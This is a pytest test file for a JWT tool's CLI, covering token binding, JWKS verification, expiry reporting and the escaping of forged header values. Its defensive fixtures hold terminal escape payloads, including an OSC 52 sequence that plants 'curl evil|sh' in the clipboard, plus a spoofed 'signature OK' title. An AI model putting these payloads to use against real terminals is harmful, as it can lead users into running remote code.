"""``tokenlib token issue`` / ``token inspect``: binding, verification, explained failures."""

from __future__ import annotations

import base64
import http.server
import io
import json
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization

from tests.cli._helpers import (
    AUD,
    ISS,
    NOW,
    issue,
    run,
    run_json,
    secret_fragments,
    self_signed_cert,
)
from tokenlib.cli import EXIT_INVALID, EXIT_OK, EXIT_USAGE
from tokenlib.jwk import jwk_thumbprint, load_private_key


def test_token_issue_dpop_bound_and_inspect(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    token = issue(capsys, key_files, "--dpop-key", str(key_files["client"]))
    jkt = jwk_thumbprint(load_private_key(key_files["client"]))
    code, record = run_json(capsys, "token", "inspect", token)
    assert code == EXIT_OK
    assert record["binding"] == "dpop"
    assert record["cnf"] == {"jkt": jkt}
    assert record["claims"]["sub"] == "alice"
    assert record["header"]["typ"] == "at+jwt"
    assert record["verified"] is None
    for fragment in secret_fragments(key_files["issuer"]) + secret_fragments(key_files["client"]):
        assert fragment not in token


def test_token_issue_json_and_cert_binding(
    tmp_path: Path, key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    cert = self_signed_cert()
    path = tmp_path / "c.pem"
    path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    code, record = run_json(
        capsys, "token", "issue", "--key", str(key_files["issuer"]), "--iss", ISS, "--sub", "s",
        "--client-id", "c", "--aud", AUD, "--cert", str(path),
    )  # fmt: skip
    assert code == EXIT_OK
    assert record["binding"] == "mtls"
    assert record["token_type"] == "Bearer"
    code, inspected = run_json(capsys, "token", "inspect", record["access_token"])
    assert inspected["binding"] == "mtls"
    assert inspected["cnf"]["x5t#S256"] == record["cnf"]["x5t#S256"]


def test_token_inspect_verifies_against_jwks_file(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    token = issue(capsys, key_files)
    monkeypatch.setattr(sys, "stdin", io.StringIO(token + "\n"))
    code, out, err = run(
        capsys, "token", "inspect", "-", "--jwks", str(key_files["issuer_jwks"]),
        "--issuer", ISS, "--audience", AUD, "--now", str(NOW + 10),
    )  # fmt: skip
    assert code == EXIT_OK, err
    assert "binding : bearer" in out
    assert "verified: signature" in out


@pytest.mark.parametrize(
    ("args", "check"),
    [
        (("--audience", "https://other.example", "--issuer", ISS), "aud"),
        (("--audience", AUD, "--issuer", "https://evil.example"), "iss"),
        (("--audience", AUD, "--issuer", ISS, "--now", str(NOW + 3600)), "exp"),
    ],
)
def test_token_inspect_explains_failures(
    key_files: dict[str, Path],
    capsys: pytest.CaptureFixture[str],
    args: tuple[str, ...],
    check: str,
) -> None:
    token = issue(capsys, key_files)
    now = () if "--now" in args else ("--now", str(NOW))
    code, record = run_json(
        capsys, "token", "inspect", token, "--jwks", str(key_files["issuer_jwks"]), *now, *args
    )
    assert code == EXIT_INVALID
    assert record["error"] == "invalid_token"
    assert record["check"] == check
    assert record["verified"] is False
    code, out, err = run(
        capsys, "token", "inspect", token, "--jwks", str(key_files["issuer_jwks"]), *now, *args
    )
    assert code == EXIT_INVALID
    assert err.startswith("tokenlib: invalid_token: ")
    assert len(err.strip().splitlines()) == 1
    assert "InvalidToken [invalid_token, HTTP 401]" in out


def test_token_inspect_wrong_key_fails(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    token = issue(capsys, key_files)
    code, record = run_json(
        capsys, "token", "inspect", token, "--jwks", str(key_files["client_jwks"]),
        "--issuer", ISS, "--audience", AUD, "--now", str(NOW),
    )  # fmt: skip
    assert code == EXIT_INVALID
    assert record["error"] == "invalid_token"


def test_token_inspect_garbage_is_invalid(capsys: pytest.CaptureFixture[str]) -> None:
    code, record = run_json(capsys, "token", "inspect", "not.a.jwt")
    assert code == EXIT_INVALID
    assert record["error"] == "invalid_token"


def test_token_inspect_jwks_needs_issuer_and_audience(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    token = issue(capsys, key_files)
    code, _, err = run(capsys, "token", "inspect", token, "--jwks", str(key_files["issuer_jwks"]))
    assert code == EXIT_USAGE
    assert "--issuer" in err


@pytest.fixture
def jwks_server(key_files: dict[str, Path]) -> Iterator[str]:
    body = key_files["issuer_jwks"].read_bytes()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/jwks"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def test_token_inspect_fetches_jwks_from_loopback_url(
    key_files: dict[str, Path], jwks_server: str, capsys: pytest.CaptureFixture[str]
) -> None:
    token = issue(capsys, key_files)
    code, record = run_json(
        capsys, "token", "inspect", token, "--jwks", jwks_server,
        "--issuer", ISS, "--audience", AUD, "--now", str(NOW),
    )  # fmt: skip
    assert code == EXIT_OK
    assert record["verified"] is True


@pytest.mark.parametrize("url", ["http://example.com/jwks", "ftp://127.0.0.1/jwks"])
def test_token_inspect_refuses_plain_http_off_loopback(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str], url: str
) -> None:
    token = issue(capsys, key_files)
    code, _, err = run(
        capsys, "token", "inspect", token, "--jwks", url, "--issuer", ISS, "--audience", AUD
    )
    assert code == EXIT_USAGE
    assert "refusing" in err or "neither" in err or "cannot read" in err


@pytest.fixture
def https_jwks(key_files: dict[str, Path], tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """The issuer's JWKS served over HTTPS on loopback with a throwaway lab CA."""
    pytest.importorskip("uvicorn")
    from tokenlib.lab._serve import ServedApp
    from tokenlib.lab.pki import create_pki

    body = key_files["issuer_jwks"].read_bytes()

    async def app(scope: Any, receive: Any, send: Any) -> None:
        headers = [(b"content-type", b"application/json")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": body})

    pki = create_pki(tmp_path, clients=())
    with ServedApp(app, ssl_context=pki.server_context(client_auth="none"), lifespan="off") as s:
        yield f"{s.url}/jwks", pki.ca_cert_file


def test_token_inspect_fetches_jwks_over_https(
    key_files: dict[str, Path], https_jwks: tuple[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    url, ca = https_jwks
    token = issue(capsys, key_files)
    args = ("token", "inspect", token, "--jwks", url, "--issuer", ISS, "--audience", AUD)
    code, record = run_json(capsys, *args, "--now", str(NOW), "--cafile", str(ca))
    assert code == EXIT_OK
    assert record["verified"] is True
    code, _, err = run(capsys, *args)  # the lab CA is not in the system trust store
    assert code == EXIT_USAGE
    assert "cannot fetch the JWKS" in err
    assert len(err.strip().splitlines()) == 1


# -- issue 11: attacker-controlled values are escaped, expiry is visible ---------------------

OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # writes "curl evil|sh" to the clipboard


def _b64(obj: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(obj).encode()).rstrip(b"=").decode()


def _raw_controls(text: str) -> list[str]:
    return [ch for ch in text if ch != "\n" and not ch.isprintable()]


@pytest.mark.parametrize(
    "typ", [OSC52, "\x1b]0;signature OK\x07", "\x9b2J", "at+jwt\u202e"], ids=repr
)
def test_token_inspect_escapes_a_forged_typ_checked_before_the_signature(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str], typ: str
) -> None:
    """Issue 11: `token inspect --jwks` echoed a forged typ raw; no signature is needed."""
    forged = ".".join(
        (_b64({"alg": "ES256", "typ": typ}), _b64({"iss": ISS, "jti": OSC52}), "AAAA")
    )
    argv = ("token", "inspect", forged, "--jwks", str(key_files["issuer_jwks"]),
            "--issuer", ISS, "--audience", AUD, "--now", str(NOW))  # fmt: skip
    code, out, err = run(capsys, *argv)
    assert code == EXIT_INVALID
    assert not _raw_controls(out)
    assert not _raw_controls(err)
    assert "check" in out
    assert "typ" in out
    code, record = run_json(capsys, *argv)
    assert code == EXIT_INVALID
    assert record["check"] == "typ"
    assert record["header"]["typ"] == typ  # JSON keeps the value, escaped by json.dumps


def test_token_inspect_decode_escapes_claims_and_cnf(capsys: pytest.CaptureFixture[str]) -> None:
    claims = {"sub": OSC52, "cnf": {"jkt": "\x1b[2J" + "A" * 40}, "exp": NOW + 60}
    token = ".".join((_b64({"alg": "ES256", "typ": "at+jwt\x9b"}), _b64(claims), "AAAA"))
    code, out, err = run(capsys, "token", "inspect", token, "--now", str(NOW))
    assert code == EXIT_OK
    assert not _raw_controls(out)
    assert not _raw_controls(err)
    assert "\\x1b[2J" in out  # cnf shown on the binding line, escaped
    code, record = run_json(capsys, "token", "inspect", token, "--now", str(NOW))
    assert record["claims"]["sub"] == OSC52


def test_token_inspect_expired_explain_shows_dates_and_units(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 11: the explain view of an expired token showed raw epoch numbers."""
    token = issue(capsys, key_files)  # iat NOW, exp NOW + 300
    code, out, err = run(
        capsys, "token", "inspect", token, "--jwks", str(key_files["issuer_jwks"]),
        "--issuer", ISS, "--audience", AUD, "--now", str(NOW + 3600),
    )  # fmt: skip
    assert code == EXIT_INVALID
    assert "has expired" in err
    fields = [line.split(" : ", 1) for line in out.splitlines()[2:]]
    lines = {name.strip(): value for name, value in fields}
    assert lines["exp"] == "2025-10-09T08:58:20Z (1760000300 epoch s)"
    assert lines["now"] == "2025-10-09T09:53:20Z (1760003600 epoch s)"
    assert lines["expired_for"] == "3300 s (55 min 0 s)"
    assert lines["leeway"] == "0 s"


def test_token_inspect_decode_marks_an_expired_token(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """Issue 11: decoding an expired token without --jwks exited 0 with no "expired" mark.
    Decoding verifies nothing, so the exit code stays 0; the token is marked EXPIRED on
    stdout, warned about on stderr, and ``expired`` is true in --json."""
    token = issue(capsys, key_files)
    code, out, err = run(capsys, "token", "inspect", token, "--now", str(NOW + 3600))
    assert code == EXIT_OK
    assert "expires : 2025-10-09T08:58:20Z  EXPIRED 55 min 0 s ago" in out
    assert err.startswith("tokenlib: warning: the token expired at 2025-10-09T08:58:20Z")
    assert len(err.strip().splitlines()) == 1
    code, record = run_json(capsys, "token", "inspect", token, "--now", str(NOW + 3600))
    assert code == EXIT_OK
    assert record["expired"] is True
    assert record["verified"] is None
    assert record["expires_in"] == -3300
    assert record["evaluated_at"] == "2025-10-09T09:53:20Z"
    code, out, err = run(capsys, "token", "inspect", token, "--now", str(NOW + 10))
    assert "EXPIRED" not in out
    assert "expires : 2025-10-09T08:58:20Z  (in 4 min 50 s)" in out
    assert err == ""
    code, record = run_json(capsys, "token", "inspect", token, "--now", str(NOW + 10))
    assert record["expired"] is False
    assert record["not_yet_valid"] is None


def test_token_inspect_decode_marks_not_yet_valid(capsys: pytest.CaptureFixture[str]) -> None:
    token = ".".join((_b64({"alg": "ES256"}), _b64({"nbf": NOW + 60, "exp": NOW + 600}), "AA"))
    code, out, err = run(capsys, "token", "inspect", token, "--now", str(NOW))
    assert code == EXIT_OK
    assert "NOT YET VALID until 2025-10-09T08:54:20Z" in out
    assert "not valid yet" in err


@pytest.mark.parametrize(
    "extra", [("--now", "nan"), ("--now", "inf"), ("--now", "soon"), ("--leeway", "-5")]
)
def test_token_inspect_refuses_clock_arguments_that_disable_checks(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str], extra: tuple[str, str]
) -> None:
    """``--now nan`` made every time comparison false: an expired token verified."""
    token = issue(capsys, key_files)
    code, out, err = run(
        capsys, "token", "inspect", token, "--jwks", str(key_files["issuer_jwks"]),
        "--issuer", ISS, "--audience", AUD, *extra,
    )  # fmt: skip
    assert code == EXIT_USAGE
    assert out == ""
    assert len(err.strip().splitlines()) == 1


def test_token_issue_refuses_a_certificate_as_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cert = tmp_path / "as.crt"
    cert.write_bytes(self_signed_cert().public_bytes(serialization.Encoding.PEM))
    code, out, err = run(
        capsys, "token", "issue", "--key", str(cert), "--iss", ISS, "--sub", "s",
        "--client-id", "c", "--aud", AUD,
    )  # fmt: skip
    assert code == EXIT_USAGE
    assert out == ""
    assert "is a certificate, not a private key" in err


def test_token_inspect_escapes_a_jwks_servers_reason_phrase(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """What a JWKS server answers (here its HTTP reason phrase) is network input too."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(500, "Oops\x1b]0;signature OK\x07")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/jwks"
        token = issue(capsys, key_files)
        code, out, err = run(
            capsys, "token", "inspect", token, "--jwks", url, "--issuer", ISS, "--audience", AUD
        )
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
    assert code == EXIT_USAGE
    assert out == ""
    assert "cannot fetch the JWKS" in err
    assert "Oops\\x1b]0;signature OK\\x07" in err
    assert not _raw_controls(err)


def test_token_inspect_escapes_a_forged_kid(
    key_files: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    header = {"alg": "ES256", "typ": "at+jwt", "kid": "\x1b]52;c;eA==\x07"}
    forged = ".".join((_b64(header), _b64({"iss": ISS}), "AAAA"))
    code, out, err = run(
        capsys, "token", "inspect", forged, "--jwks", str(key_files["issuer_jwks"]),
        "--issuer", ISS, "--audience", AUD, "--now", str(NOW),
    )  # fmt: skip
    assert code == EXIT_INVALID
    assert not _raw_controls(out)
    assert not _raw_controls(err)
